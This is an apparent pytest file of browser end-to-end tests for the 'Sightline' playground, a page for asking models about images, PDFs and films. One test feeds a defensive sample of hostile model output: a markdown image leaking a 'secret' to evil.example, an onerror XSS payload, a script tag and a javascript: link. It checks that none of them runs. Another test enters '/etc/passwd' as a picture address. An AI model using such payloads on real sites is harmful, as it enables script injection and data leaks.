"""The page in Debian's Chromium, on the real server: every flow as a person goes through it."""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import chdir, contextmanager, redirect_stdout
from pathlib import Path
from typing import Any

import pytest

from tests.chatting import Body, chatting
from tests.chromium import PROGRAM, Tabs, chromium
from tests.conftest import end, running
from tests.documents import pdf
from tests.e2e.test_guides import ran
from tests.films import scenes
from tests.server.test_keys import added
from tests.waiting import PATIENCE_S, slow_model, until

NODE = shutil.which("node")
SAMPLES = Path(__file__).parents[2] / "samples"
CORPUS = Path(__file__).parents[1] / "corpus"
PARTS = ("Chat", "Compare", "Narrate")

pytestmark = [
    pytest.mark.skipif(PROGRAM is None, reason="Chromium is not installed"),
]


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    with running() as url:
        yield url.removesuffix("/v1")


@pytest.fixture(scope="module")
def tabs() -> Iterator[Tabs]:
    flags = (
        "--autoplay-policy=no-user-gesture-required",
        "--use-fake-device-for-media-stream", "--use-fake-ui-for-media-stream",
    )  # fmt: skip
    with chromium(*flags) as browser:
        yield Tabs(browser)


@contextmanager
def opened(
    tabs: Tabs,
    url: str,
    width: int = 1280,
    *,
    scheme: str = "light",
    motion: str = "reduce",
    **options: Any,
) -> Iterator[Any]:
    """Open the page at a server; see that nothing went elsewhere, broke or was held up.

    What needs `options` of its own is opened in a tab of its own.
    """
    # What moves while an answer is waited for is drawn sixty times a second, without a graphics card.
    still = {"reduced_motion": motion, "color_scheme": scheme}
    size = {"width": width, "height": 860}
    taken = tabs.own(**{**still, "viewport": size, **options}) if options else tabs.emptied(
        url, size, **still
    )  # fmt: skip
    outside: list[str] = []
    wrong: list[str] = []
    watched = {
        "request": lambda r: outside.append(r.url) if not _is_own(r.url) else None,
        "pageerror": lambda error: wrong.append(str(error)),
        "console": lambda m: wrong.append(m.text) if "Policy" in m.text else None,
    }
    with taken as page:
        for event, note in watched.items():
            page.on(event, note)
        page.goto(f"{url}/")
        page.locator(".composer select option").first.wait_for(state="attached")
        yield page
        for event, note in watched.items():
            page.remove_listener(event, note)
        assert outside == []
        assert wrong == []


def _is_own(url: str) -> bool:
    return url.startswith(("http://127.0.0.1:", "data:", "blob:"))


@pytest.fixture
def page(tabs: Tabs, server: str) -> Iterator[Any]:
    with opened(tabs, server) as made:
        yield made


@pytest.fixture
def pictured(pytestconfig: pytest.Config) -> Callable[[Any, str], None]:
    """Write a picture of a page for the documents, where they are asked for."""
    folder = pytestconfig.getoption("--pictures")

    def write(page: Any, name: str) -> None:
        if folder is not None:
            page.set_viewport_size({"width": 1280, "height": 800})
            page.screenshot(path=Path(folder) / f"{name}.png")

    return write


def brought(page: Any, *files: str | Path) -> None:
    page.locator(".part:not([hidden]) input[type=file]").set_input_files([str(f) for f in files])


def asked(page: Any, question: str) -> None:
    page.get_by_role("textbox", name="Question").fill(question)
    page.get_by_role("button", name="Send").click()


def answer(page: Any, number: int = -1) -> Any:
    """The answer, once it is whole."""
    found = page.get_by_role("article", name="Answer", exact=True)
    shown = found.last if number < 0 else found.nth(number)
    shown.locator(".spent").wait_for()
    return shown


def noting(page: Any, there: str) -> Callable[[], bool]:
    """Have the page note that something is there, however shortly; give what says whether it was.

    A test that looks now and then may miss it.
    """
    page.evaluate(f"""() => {{
        window.noted = false;
        new MutationObserver(() => {{ window.noted ||= Boolean({there}); }}).observe(
            document.body, {{ subtree: true, childList: true, characterData: true }});
    }}""")
    return lambda: bool(page.evaluate("window.noted"))


def copied(page: Any) -> str:
    """What is in the clipboard after a click on Copy, which says so for a moment."""
    buttons = "[...document.querySelectorAll('dialog button')]"
    said = noting(page, f"{buttons}.some((each) => each.textContent.trim() === 'Copied')")
    page.evaluate("navigator.clipboard.writeText('')")
    page.get_by_role("dialog").get_by_role("button", name="Copy").click()
    until(said)
    return str(until(lambda: page.evaluate("navigator.clipboard.readText()")))


def typed(command: str, code: str, folder: Path) -> str:
    """Give code to a program, in a folder; give what it says."""
    words = [command, *(["-"] if command != "bash" else [])]
    done = subprocess.run(
        words, input=code, capture_output=True, text=True, timeout=PATIENCE_S, cwd=folder
    )
    return done.stdout + done.stderr


def pasted(code: str, folder: Path) -> str:
    """Run a program of Python in a folder, in this process; give what it prints."""
    out = io.StringIO()
    with redirect_stdout(out), chdir(folder):
        ran(code, "pasted")
    return out.getvalue()


_WATCH = """() => {
    window.jumps = [];
    new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) {
            if (!entry.hadRecentInput) window.jumps.push(entry.value);
        }
    }).observe({ type: "layout-shift", buffered: true });
}"""


def jumped(page: Any) -> float:
    """How far what was laid out has moved since the page was opened, as a share of it."""
    if not page.evaluate("'jumps' in window"):
        page.evaluate(_WATCH)
    page.evaluate("new Promise((done) => requestAnimationFrame(() => setTimeout(done)))")
    return float(sum(page.evaluate("window.jumps")))


def accessible(page: Any, where: str, *, dark: bool = False) -> None:
    """See that axe finds nothing, by any of its rules, and that nothing is cut off at the side.

    What is `dark` has other colours than what is light and nothing else: the rules are those of them.
    """
    from axe_playwright_python.sync_playwright import Axe

    # A page that has just changed its width is laid out anew a moment later.
    fits = "document.documentElement.scrollWidth <= innerWidth"
    until(lambda: page.evaluate(fits), lambda: where)
    if not page.evaluate("'axe' in window"):
        page.evaluate(Axe().axe_script)
    options: dict[str, Any] = {"resultTypes": ["violations"]}
    if dark:  # without the rule that axe has off until rules are named
        options["runOnly"] = {"type": "tag", "values": ["cat.color"]}
        options["rules"] = {"color-contrast-enhanced": {"enabled": False}}
    found = page.evaluate("async (options) => (await axe.run(options)).violations", options)
    wrong = {v["id"]: [node["html"] for node in v["nodes"]] for v in found}
    assert wrong == {}, where


def test_dark_differs_in_colours_alone() -> None:
    """So that what is dark need not be looked at by every rule."""
    static = Path(__file__).parents[2] / "sightline" / "playground" / "static"
    for path in (*static.glob("*.css"), *static.glob("*.js")):
        assert "prefers-color-scheme" not in path.read_text("utf-8"), path
    themed = re.findall(r"\[data-theme[^{]*\{([^}]*)\}", (static / "page.css").read_text("utf-8"))
    assert themed
    assert all(re.fullmatch(r"\s*color-scheme: (light|dark);\s*", rule) for rule in themed)


def test_an_example_is_answered_at_a_click(page: Any, pictured: Callable[[Any, str], None]) -> None:
    page.get_by_role("button", name=re.compile("^A receipt What is the total")).click()
    said = answer(page)
    assert "$16.20" in said.inner_text()
    assert re.search(r"\d+ tokens in \(490 for pictures\), \d+ out · \d+\.\d\ss", said.inner_text())
    # What was said is linked to where it stands.
    said.get_by_role("button", name="$16.20").click()
    box = page.locator(".box.evidence.on")
    picture = page.locator(".frame img").bounding_box()
    place = box.bounding_box()
    assert (place["x"] - picture["x"]) / picture["width"] > 0.65  # at the right, near the bottom
    assert 0.7 < (place["y"] - picture["y"]) / picture["height"] < 0.85
    pictured(page, "playground-chat")
    page.get_by_role("button", name="Evidence").click()
    assert page.locator(".box").count() == 0


def test_a_conversation_goes_on_is_changed_and_asked_again(page: Any) -> None:
    brought(page, SAMPLES / "sign.png")
    page.locator(".cost").get_by_text("tokens").wait_for()
    page.locator(".facts").get_by_text("800 × 420, seen as 800 × 420 · 420 tokens").wait_for()
    asked(page, "What does it say?")
    assert "MAPLE AVENUE" in answer(page).inner_text()
    asked(page, "Which colours does it have?")
    assert "green" in answer(page, 1).inner_text().lower()
    page.get_by_role("button", name="Retry").last.click()
    assert "green" in answer(page, 1).inner_text().lower()
    page.get_by_role("article", name="Question").first.hover()
    page.get_by_role("button", name="Change the question").first.click()
    page.get_by_role("textbox", name="The question, changed").fill("How large is the picture?")
    page.get_by_role("button", name="Ask again").click()
    page.get_by_text("How large is the picture?").wait_for()
    assert "800" in answer(page).inner_text()
    assert (
        page.get_by_role("article", name="Answer", exact=True).count() == 1
    )  # what came later is gone
    page.get_by_role("button", name="New conversation").click()
    page.get_by_role("heading", name="Ask about pictures").wait_for()


def test_pictures_are_dropped_pasted_taken_and_named_by_url(page: Any) -> None:
    page.evaluate(
        """async () => {
            const made = async (name) => {
                const data = await (await fetch(`examples/${name}.webp`)).blob();
                return new File([data], `${name}.webp`, { type: "image/webp" });
            };
            const dropped = new DataTransfer();
            dropped.items.add(await made("before"));
            dropped.items.add(await made("after"));
            const options = { bubbles: true, cancelable: true };
            document.body.dispatchEvent(new DragEvent("drop", { ...options, dataTransfer: dropped }));
            const pasted = new DataTransfer();
            pasted.items.add(await made("chart"));
            document.body.dispatchEvent(
                new ClipboardEvent("paste", { ...options, clipboardData: pasted }));
        }"""
    )
    for name in ("before.webp", "after.webp", "chart.webp"):
        page.locator(".composer").get_by_role("button", name=f"Open {name}").wait_for()
    opened = page.locator(".composer").get_by_role("button", name=re.compile("^Open .*webp$"))
    assert opened.evaluate_all("all => all.map((each) => each.getAttribute('aria-label'))") == [
        "Open before.webp",
        "Open after.webp",
        "Open chart.webp",
    ]  # in the order in which they came, however long each took to read
    page.get_by_role("button", name="Take a picture").click()
    page.get_by_role("button", name="Take it").wait_for()
    until(lambda: page.locator("video.camera").evaluate("v => v.videoWidth") > 0)
    page.get_by_role("button", name="Take it").click()
    page.locator(".composer").get_by_role("button", name="Open camera.jpg").wait_for()
    page.get_by_role("button", name="Add by URL").click()
    field = page.get_by_role("textbox", name="Address of a picture")
    field.fill("/etc/passwd")
    page.get_by_role("button", name="Add", exact=True).click()
    # The browser's own check of the field, or ours: neither adds it.
    assert page.locator(".composer .thumb").count() == 4
    field.fill("https://example.invalid/one.jpg")
    page.get_by_role("button", name="Add", exact=True).click()
    page.locator(".composer").get_by_role("button", name="Open one.jpg").wait_for()
    # Each opens whole, and can be taken out again.
    page.locator(".composer").get_by_role("button", name="Open chart.webp").click()
    page.locator(".frame img[alt='chart.webp']").wait_for()
    page.get_by_role("button", name="Open whole").click()
    page.get_by_role("dialog", name="chart.webp").wait_for()
    page.get_by_role("button", name="Next").click()
    page.get_by_role("dialog", name="camera.jpg").wait_for()
    page.keyboard.press("Escape")
    for name in ("chart.webp", "camera.jpg", "one.jpg"):
        page.get_by_role("button", name=f"Remove {name}").click()
    asked(page, "What is different?")
    assert "9:30" in answer(page).inner_text()


def test_json_by_a_form_of_fields(page: Any, pictured: Callable[[Any, str], None]) -> None:
    page.get_by_role("button", name=re.compile("^A receipt as JSON")).click()
    said = answer(page)
    said.get_by_text("3 rows").wait_for()
    said.get_by_role("button", name="Oat Porridge").click()  # a value is linked to its place
    assert page.locator(".box.evidence.on").get_attribute("title") == "Oat Porridge"
    said.get_by_role("button", name="Table").click()
    heads = said.locator("thead th").all_inner_texts()
    assert heads == ["quantity", "name", "price"]
    assert said.get_by_role("row").filter(has_text="Blueberry Muffin").count() >= 1
    pictured(page, "playground-json")
    said.get_by_role("button", name="JSON", exact=True).click()
    assert json.loads(said.locator("pre").inner_text())["merchant"] == "HARBOUR CAFE"
    # The form is a schema that can be written further.
    page.get_by_role("button", name="As JSON").click()
    page.get_by_role("button", name="Schema").click()
    schema = json.loads(page.get_by_role("textbox", name="JSON schema").input_value())
    assert set(schema["properties"]) == {"merchant", "date", "total", "items"}
    page.get_by_role("textbox", name="JSON schema").fill("{")
    page.get_by_role("button", name="Use it").click()
    page.get_by_text("The schema is not JSON.").wait_for()
    page.get_by_role("button", name="Fields").click()
    page.get_by_role("textbox", name="Name").first.fill("date")
    page.get_by_role("button", name="Use it").click()
    page.get_by_text("Two fields are named date.").wait_for()
    # Whatever form is chosen, its name stays under the pointer.
    names = page.get_by_role("group", name="Form of the answer")
    places = set()
    for name in ("Text", "Attributes", "Schema", "Decisions"):
        names.get_by_role("button", name=name).click()
        places.add(names.bounding_box()["y"])
    assert len(places) == 1


def test_json_by_attributes(page: Any) -> None:
    brought(page, SAMPLES / "receipt.png")
    page.get_by_role("button", name="As text").click()
    page.get_by_role("button", name="Attributes").click()
    page.get_by_role("textbox", name="What the JSON should hold").fill(
        "- total: the total\n- date: the date"
    )
    page.get_by_role("button", name="Use it").click()
    asked(page, "Read it.")
    said = answer(page)
    said.get_by_role("button", name="JSON", exact=True).click()
    assert set(json.loads(said.locator("pre").inner_text())) == {"total", "date"}


def test_what_is_decided_is_as_likely_as_its_bar(
    tabs: Tabs, server: str, tmp_path: Path, pictured: Callable[[Any, str], None]
) -> None:
    options: dict[str, Any] = {"permissions": ["clipboard-read", "clipboard-write"]}
    with opened(tabs, server, **options) as page:
        film = shutil.copy(CORPUS / "films" / "h264.mp4", tmp_path / "film.mp4")
        brought(page, SAMPLES / "coffee.jpg", film)
        page.get_by_role("button", name="As text").click()
        page.get_by_role("button", name="Decisions").click()
        form = page.get_by_role("dialog")
        form.get_by_role("button", name="Use it").click()
        form.get_by_text("Nothing is asked.").wait_for()
        for place, asking in enumerate(("Is there a cup?", "Which is there?", "Is it raining?")):
            form.get_by_role("textbox", name="Question").nth(place).fill(asking)
            form.get_by_role("button", name="Add a question").click()
        form.get_by_label("Kind").nth(1).select_option("choice")
        form.get_by_role("button", name="Use it").click()
        form.get_by_text("“Which is there?” has fewer than two options.").wait_for()
        form.get_by_role("textbox", name="Options").nth(1).fill("cup, dog")
        accessible(page, "decisions, asked")
        form.get_by_role("button", name="Use it").click()
        page.get_by_role("alert").get_by_text("film.mp4: decisions are made about pict").wait_for()
        page.get_by_role("button", name="Remove film.mp4").click()
        page.locator(".cost").get_by_text("tokens").wait_for()
        page.get_by_role("button", name="Send").click()
        said = answer(page)
        told = said.locator("dd span").all_inner_texts()
        assert [float(share.removesuffix(" %")) > 90 for share in told] == [True, False] * 2
        assert "Not decided. Of photographs" in said.inner_text()
        said.get_by_role("button", name="Which is there?").click()
        assert page.locator(".box.evidence.on").get_attribute("title") == "cup"
        accessible(page, "decisions")
        pictured(page, "playground-decisions")
        said.get_by_role("button", name="Code").click()
        page.get_by_role("button", name="Python", exact=True).click()
        code = copied(page)
    assert json.loads(pasted(code, tmp_path))["answers"][1]["choice"] == "cup"


def test_tiles_and_cost_follow_the_model_and_the_detail(page: Any) -> None:
    brought(page, SAMPLES / "poster.png")
    page.get_by_label("Model").select_option("gpt-4o")
    page.locator(".facts").get_by_text("in 2 × 2 tiles · 765 tokens").wait_for()
    page.get_by_role("button", name="Tiles").click()
    assert page.locator(".tiles i").count() == 2  # a line down, a line across
    page.get_by_label("Detail").select_option("low")
    page.locator(".facts").get_by_text("85 tokens").wait_for()
    assert page.locator(".tiles").count() == 0


def test_errors_are_sentences_that_say_what_to_do(page: Any, tmp_path: Path) -> None:
    assert page.get_by_role("button", name="Send").is_disabled()
    notes = tmp_path / "notes.txt"
    notes.write_text("Milk")
    brought(page, notes)
    page.get_by_role("alert").get_by_text("notes.txt is neither a picture").wait_for()
    bad = tmp_path / "bad.png"
    bad.write_bytes(b"no picture at all")
    brought(page, bad)
    page.get_by_role("alert").get_by_text("unsupported image").wait_for()  # before it is sent
    page.get_by_role("button", name="Remove bad.png").click()
    page.get_by_role("alert").wait_for(state="detached")
    page.get_by_role("button", name="Add by URL").click()
    page.get_by_role("textbox", name="Address of a picture").fill("http://127.0.0.1:1/a.png")
    page.get_by_role("button", name="Add", exact=True).click()
    asked(page, "What is it?")
    said = answer(page).get_by_role("alert").inner_text()
    assert "127.0.0.1" not in said.replace("http://127.0.0.1:1/a.png", "")
    assert "Traceback" not in page.content()


def test_a_pdf_is_asked_about_page_by_page(page: Any, tmp_path: Path) -> None:
    file = tmp_path / "letter.pdf"
    file.write_bytes(pdf(["Invoice 77", "Total: $12.00"], ["Thank you"]))
    brought(page, file)
    page.locator(".facts").get_by_text("2 pages").wait_for()
    page.get_by_role("button", name="Page 2").wait_for()
    assert jumped(page) < 0.01  # when its pages came
    page.get_by_role("button", name="Page 2").click()
    page.get_by_alt_text("Page 2 of letter.pdf").wait_for()
    asked(page, "What is the total?")
    answer(page).get_by_role("button", name="12.00").click()
    page.get_by_alt_text("Page 1 of letter.pdf").wait_for()  # where it stands
    place, whole = (page.locator(each).bounding_box() for each in (".box.on", ".frame"))
    assert 0.1 < (place["y"] - whole["y"]) / whole["height"] < 0.25
    accessible(page, "a PDF")


def test_a_long_pdf_is_drawn_where_it_is_seen(page: Any, tmp_path: Path) -> None:
    file = tmp_path / "long.pdf"
    file.write_bytes(pdf(*([f"Page {number}"] for number in range(1, 101))))
    drawn: list[int] = []

    def note(request: Any) -> None:
        if "/documents/" in request.url:
            drawn.extend(request.post_data_json["pages"])

    page.on("request", note)
    brought(page, file)
    page.locator(".facts").get_by_text("100 pages").wait_for()
    page.get_by_alt_text("Page 1 of long.pdf").wait_for()
    last = page.get_by_role("button", name="Page 100")
    last.click()
    page.get_by_alt_text("Page 100 of long.pdf").wait_for()
    last.locator("img").wait_for()
    assert page.get_by_role("button", name="Page 50").locator("img").count() == 0
    page.remove_listener("request", note)
    assert len(set(drawn)) < 60
    asked(page, "Which page is the last?")  # which goes on for as long as it reads them all
    page.get_by_role("button", name="Stop").click()
    answer(page).get_by_text("stopped").wait_for()


def test_a_pdf_that_cannot_be_read_is_told_of_once(page: Any, tmp_path: Path) -> None:
    file = tmp_path / "torn.pdf"
    file.write_bytes(b"%PDF-1.7\ntorn")
    brought(page, file)
    page.locator(".composer").get_by_role("button", name="Open torn.pdf").wait_for()
    page.locator(".side").get_by_text("It cannot be shown.").wait_for()
    assert page.get_by_role("alert").count() == 1
    asked(page, "What does it say?")
    answer(page).get_by_role("alert").get_by_text("The PDF cannot be read").wait_for()
    page.locator(".side").get_by_text("It cannot be shown.").wait_for()
    assert page.get_by_role("alert").count() == 1


def test_a_film_is_seen_by_as_many_frames_as_are_wanted(page: Any) -> None:
    page.get_by_role("button", name=re.compile("^A film")).click()
    answer(page).get_by_role("button", name="NIGHT").last.click()
    film = page.locator(".frame video")
    until(lambda: film.evaluate("v => v.currentTime") > 3.9)
    page.get_by_label("Frames of a film").select_option("4")
    page.get_by_role("button", name="Retry").click()
    page.locator(".facts").get_by_text("4 of 72 frames of 6.0 s").wait_for()


def test_a_film_is_described_and_its_times_seek(
    page: Any, tmp_path: Path, pictured: Callable[[Any, str], None]
) -> None:
    brought(page, scenes(tmp_path / "film.mp4"))
    page.locator(".facts").get_by_text("24 of 180 frames of 12.0 s, without sound").wait_for()
    until(lambda: page.locator(".strip img").count() == 24)
    assert jumped(page) < 0.01  # when its frames came
    asked(page, "What happens?")
    said = answer(page)
    said.get_by_role("button", name="8.0 s").first.click()
    film = page.locator(".frame video")
    until(lambda: abs(film.evaluate("v => v.currentTime") - 8) < 0.1)
    page.locator(".box.evidence[title='THE END']").wait_for()
    page.get_by_role("button", name="Go to 0:02.2").click()
    until(lambda: abs(film.evaluate("v => v.currentTime") - 2.2) < 0.1)
    accessible(page, "a film")
    pictured(page, "playground-film")


def test_a_film_is_narrated_by_a_script_that_was_changed(
    page: Any, tmp_path: Path, pictured: Callable[[Any, str], None]
) -> None:
    page.get_by_role("button", name="Narrate").click()
    page.get_by_role("button", name="Hear onyx").click()
    page.get_by_role("button", name="Hear onyx").and_(page.locator(":enabled")).wait_for()
    page.get_by_role("button", name="Take the example").click()
    page.get_by_label("film.mp4").wait_for()
    brought(page, scenes(tmp_path / "film.mp4"))
    page.get_by_role("button", name="Write the script").click()
    first = page.get_by_role("textbox", name="Text from").first
    first.wait_for()
    assert page.get_by_role("textbox", name="Text from").count() >= 2
    first.fill("A black picture begins it.")
    progressed = noting(page, "document.querySelector('progress')")
    page.get_by_role("button", name="Speak the script").click()
    film = page.get_by_label("The narrated film")
    film.wait_for()
    assert progressed()  # a short film may be done before one can look
    assert first.input_value() == "A black picture begins it."
    film.evaluate("v => { v.muted = true; v.play() }")
    until(lambda: film.evaluate("v => v.currentTime") > 1)
    accessible(page, "a narrated film")
    pictured(page, "playground-narrate")
    for name, begins in (
        ("Film", b""), ("SRT", b"1\n00:00:0"), ("WebVTT", b"WEBVTT\n\n1\n00:00:0"),
        ("Script", b'{\n  "segments": ['),
    ):  # fmt: skip
        with page.expect_download() as given:
            page.get_by_role("button", name=name, exact=True).click()
        data = Path(given.value.path()).read_bytes()
        assert data.startswith(begins)
        assert len(data) > 100


def test_a_script_of_ones_own_is_spoken(page: Any) -> None:
    page.get_by_role("button", name="Narrate").click()
    page.get_by_role("button", name="Take the example").click()
    film = page.get_by_label("film.mp4")
    film.evaluate("v => { v.currentTime = 2 }")
    until(lambda: film.evaluate("v => !v.seeking && v.readyState > 1"))
    adding = page.get_by_role("button", name="Add a text where the film stands")
    adding.click()
    film.evaluate("v => { v.currentTime = 0 }")
    until(lambda: film.evaluate("v => !v.seeking && v.readyState > 1"))
    adding.click()
    for start, text in (("0:00.0", "It is morning."), ("0:02.0", "Now it is noon.")):
        page.get_by_role("textbox", name=f"Text from {start}").fill(text)
    page.get_by_role("button", name="Speak the script").click()
    page.get_by_label("The narrated film").wait_for()
    with page.expect_download() as given:
        page.get_by_role("button", name="Script", exact=True).click()
    told = json.loads(Path(given.value.path()).read_text())["segments"]
    assert [each["text"] for each in told] == ["It is morning.", "Now it is noon."]
    accessible(page, "a script of one's own")


def test_times_of_answers_side_by_side_lead_into_the_film(page: Any, tmp_path: Path) -> None:
    page.get_by_role("button", name="Compare").click()
    brought(page, scenes(tmp_path / "film.mp4"))
    for side in ("Answer 1", "Answer 2"):
        shown = page.get_by_role("article", name=side)
        shown.get_by_label("Frames of a film").select_option("4")
    page.get_by_role("textbox", name="Question to both").fill("What happens?")
    page.get_by_role("button", name="Send").click()
    one = page.get_by_role("article", name="Answer 1")
    one.locator(".spent").wait_for()
    one.get_by_role("button", name="8.0 s").first.click()
    film = page.get_by_role("dialog").locator("video")
    until(lambda: abs(film.evaluate("v => v.currentTime") - 8) < 0.1)
    page.keyboard.press("Escape")
    page.get_by_role("article", name="Answer 2").locator(".spent").wait_for()


def test_two_answers_side_by_side(page: Any) -> None:
    page.get_by_role("button", name="Compare").click()
    brought(page, SAMPLES / "poster.png")
    page.get_by_role("textbox", name="Question to both").fill("When is the event?")
    one = page.get_by_role("article", name="Answer 1")
    one.get_by_label("Model").select_option("gpt-4o")
    page.get_by_role("button", name="Send").click()
    for side in ("Answer 1", "Answer 2"):
        shown = page.get_by_role("article", name=side)
        shown.get_by_text(re.compile(r"tokens in.*out · \d")).wait_for()
        assert "18 July" in shown.inner_text()
    accessible(page, "two answers")
    one.get_by_role("button", name="Code").click()
    page.get_by_role("region", name="The request").get_by_text('"detail": "low"').wait_for()
    assert '"model": "gpt-4o"' in page.locator(".code").inner_text()


def test_the_request_works_when_it_is_pasted(tabs: Tabs, server: str, tmp_path: Path) -> None:
    options: dict[str, Any] = {"permissions": ["clipboard-read", "clipboard-write"]}
    with opened(tabs, server, **options) as page:
        brought(page, SAMPLES / "receipt.png")
        asked(page, 'What is the total? `$HOME` \\ "it\'s"')
        answer(page)
        page.get_by_role("button", name="Code").click()
        code = {}
        for name in ("curl", "Python", "JavaScript"):
            page.get_by_role("button", name=name, exact=True).click()
            code[name] = copied(page)
            assert "…" in page.locator(".code").inner_text()  # shown short, copied whole
            page.get_by_role("button", name="Copied").wait_for(state="detached")
    for name, command in {"curl": "bash", "JavaScript": NODE, "Python": sys.executable}.items():
        if command is not None:
            assert "16.20" in typed(command, code[name], tmp_path), name


def test_the_request_of_a_narration_works_where_its_film_lies(
    tabs: Tabs, server: str, tmp_path: Path
) -> None:
    shutil.copy(SAMPLES / "film.mp4", tmp_path / 'it\'s "a" film.mp4')
    options: dict[str, Any] = {"permissions": ["clipboard-read", "clipboard-write"]}
    with opened(tabs, server, **options) as page:
        page.get_by_role("button", name="Narrate").click()
        brought(page, tmp_path / 'it\'s "a" film.mp4')
        page.get_by_label("Style").fill('It\'s "short".')
        page.get_by_role("button", name="Add a text where the film stands").click()
        page.get_by_role("textbox", name="Text from").fill("It's morning.")
        page.get_by_role("button", name="Code").click()
        page.get_by_text("film.mp4 from where it is run.").wait_for()
        accessible(page, "the request of a narration")
        code = {}
        for name in ("curl", "Python", "JavaScript"):
            page.get_by_role("button", name=name, exact=True).click()
            code[name] = copied(page)
            page.get_by_role("button", name="Copied").wait_for(state="detached")
    made = tmp_path / 'it\'s "a" film-narrated.mp4'
    for name, command in {"curl": "bash", "JavaScript": NODE, "Python": ""}.items():
        if command is None:
            continue
        said = typed(command, code[name], tmp_path) if command else pasted(code[name], tmp_path)
        assert made.exists(), (name, said)
        assert b"ftyp" in made.read_bytes()[:12], (name, said)
        made.unlink()


def test_the_key_that_is_typed_in_is_sent(tabs: Tabs, tmp_path: Path) -> None:
    key = added(tmp_path, "alice")
    flags = ("--keys", "required", "--keys-file", str(tmp_path / "keys.sqlite"))
    with running(*flags) as url, tabs.own() as page:
        page.goto(url.removesuffix("/v1") + "/")
        for typed in ("wrong", key):
            page.get_by_role("button", name="Enter the key").click()
            page.get_by_label("API key").fill(typed)
            page.get_by_role("button", name="Done").click()
        page.locator(".composer select option").first.wait_for(state="attached")
        page.get_by_role("button", name=re.compile("^A chart")).click()
        assert "April" in answer(page).inner_text()
        page.reload()  # it is this tab's until the tab is closed
        page.locator(".composer select option").first.wait_for(state="attached")
        stored = page.evaluate("JSON.stringify(localStorage)")
        assert key not in stored


def test_history_is_off_until_it_is_wanted(tabs: Tabs, server: str) -> None:
    with opened(tabs, server) as page:
        page.get_by_role("button", name=re.compile("^A chart")).click()
        answer(page)
        page.get_by_role("button", name="New conversation").click()
        page.get_by_role("button", name="History").click()
        assert not page.get_by_role("checkbox").is_checked()
        page.get_by_role("checkbox").check()
        page.get_by_text("Nothing is kept yet.").wait_for()
        page.keyboard.press("Escape")
        page.get_by_role("button", name=re.compile("^A chart")).click()
        answer(page)
        page.get_by_text("The answer is there", exact=True).wait_for()  # and is kept
        page.reload()
        page.get_by_role("button", name="History").click()
        with page.expect_download() as given:
            page.get_by_role("button", name="Export").click()
        told = json.loads(Path(given.value.path()).read_text())["conversations"][0]
        assert [turn["role"] for turn in told["turns"]] == ["user", "assistant"]
        assert told["turns"][0]["files"][0]["url"].startswith("data:image/webp;base64,")
        page.get_by_role("button", name=re.compile("^Which month")).click()
        assert "April" in answer(page).inner_text()
        page.locator(".frame img").wait_for()
        asked(page, "Which colours does it have?")  # it goes on
        assert "blue" in answer(page, 1).inner_text().lower()
        page.get_by_role("button", name="History").click()
        page.locator(".kept-open").wait_for()
        page.get_by_role("checkbox").uncheck()
        page.locator(".kept").wait_for(state="detached")
        kept = """new Promise((done) => {
            const opening = indexedDB.open("sightline", 1);
            opening.onsuccess = () => {
                const store = opening.result.transaction("conversations").objectStore("conversations");
                store.count().onsuccess = (event) => done(event.target.result);
            };
        })"""
        until(lambda: page.evaluate(kept) == 0)


def test_a_document_whose_pages_were_looked_at_is_kept(
    tabs: Tabs, server: str, tmp_path: Path
) -> None:
    file = tmp_path / "papers.pdf"
    file.write_bytes(pdf(["Invoice 77"], ["Thank you"]))
    with opened(tabs, server) as page:
        page.get_by_role("button", name="History").click()
        page.get_by_role("checkbox").check()
        page.keyboard.press("Escape")
        brought(page, file)
        page.locator(".sheets img").first.wait_for()
        asked(page, "What is the title of page 1?")
        answer(page)
        page.get_by_text("The answer is there", exact=True).wait_for()
        assert page.get_by_role("alert").count() == 0
        page.reload()
        page.get_by_role("button", name="History").click()
        page.locator(".kept-open").click()
        page.locator(".sheets img").first.wait_for()


@contextmanager
def alone(base_url: str) -> Iterator[str]:
    """What `sightline playground` serves before another server; give where it is."""
    with running("--engine", "upstream", "--upstream-url", base_url) as url:
        yield url.removesuffix("/v1")


@contextmanager
def commanded(base_url: str) -> Iterator[tuple[str, subprocess.Popen[str]]]:
    """The command itself; give where it serves, and its process."""
    process = subprocess.Popen(
        [sys.executable, "-m", "sightline.cli.main", "playground", "--port", "0", "--base-url",
         base_url, "--json"],
        stdout=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert process.stdout is not None
        yield json.loads(process.stdout.readline())["url"].removesuffix("/playground/"), process
    finally:
        end(process)


HOSTILE = """Look: ![a](http://evil.example/leak.png?q=secret) <img src=x onerror=alert(1)>
<script>document.title = "broken"</script>

[a link](javascript:alert(1)) and [another](https://example.com/)

| one | two |
|---|---|
| **1** | 2 |
"""


def test_an_answer_cannot_run_or_fetch_anything(tabs: Tabs) -> None:
    with chatting(lambda body: HOSTILE, "other") as base, alone(base) as url, opened(tabs, url) as page:  # fmt: skip
        page.get_by_label("Model").select_option("other")
        asked(page, "Hello")
        said = answer(page)
        assert said.locator("td strong").inner_text() == "1"
        assert said.locator("img, script").count() == 0
        assert "<img src=x onerror=alert(1)>" in said.inner_text()  # seen, not done
        links = said.locator("a").evaluate_all("all => all.map((a) => [a.href, a.rel])")
        assert ["https://example.com/", "noopener noreferrer"] in links
        assert not any(href.startswith("javascript") for href, _ in links)
        assert page.title() == "Sightline"


def test_stopping_ends_the_work_behind_it(tabs: Tabs) -> None:
    with slow_model() as slow, alone(slow.url) as url, opened(tabs, url) as page:
        page.get_by_label("Model").select_option("slow")
        asked(page, "Wait")
        slow.wait()
        page.get_by_role("button", name="Stop").click()
        page.get_by_text("· stopped").wait_for()
        slow.let_go()
        page.get_by_role("button", name="Retry").click()
        slow.wait()
        slow.let_go()
        page.get_by_text("re: Wait").wait_for()


def test_what_another_server_refuses_is_a_sentence(tabs: Tabs) -> None:
    def refuse(body: Body) -> tuple[int, Body]:
        return 400, {"message": "That is too rude.", "code": "refused"}

    with chatting(refuse, "other") as base, alone(base) as url, opened(tabs, url) as page:
        page.get_by_label("Model").select_option("other")
        asked(page, "Hello")
        assert answer(page).get_by_role("alert").inner_text().strip()
        page.get_by_role("button", name="Retry").wait_for()


def test_an_answer_that_no_page_can_lay_out_is_shown_as_it_came(tabs: Tabs) -> None:
    deep = {
        "quotes": ">" * 20_000 + " said",
        "long": "word " * 200_000,
        "JSON": "[" * 3000 + "]" * 3000,
    }

    def told(body: Body) -> str:
